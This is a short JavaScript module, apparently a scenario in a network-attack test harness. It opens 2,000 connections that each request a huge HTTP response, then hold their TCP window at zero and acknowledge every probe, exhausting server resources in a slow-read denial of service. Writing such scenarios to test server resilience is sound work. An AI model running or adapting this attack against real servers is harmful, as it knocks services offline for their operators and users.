import { ACK } from '../peers.js'

export const summary =
  '2,000 peers that ask HTTP for a large answer and shut their windows: five packets each'
export const short = true

const REQUEST = Buffer.from('GET /bytes/1000000000000 HTTP/1.1\r\nHost: x\r\n\r\n')

export const attack = async (peers, { goesOn }) => {
  for (let begun = 0; begun < 2000 && (await goesOn(1)); begun += 50)
    for (const c of await peers.connectMany(50, 80, { scale: 10 })) {
      c.write(REQUEST)
      c.window = 0
      // A shut window is told again whenever it is probed: nobody gives up on such a peer by itself.
      c.arrived = () => c.send(ACK)
    }
  while (await goesOn(50)) {}
}
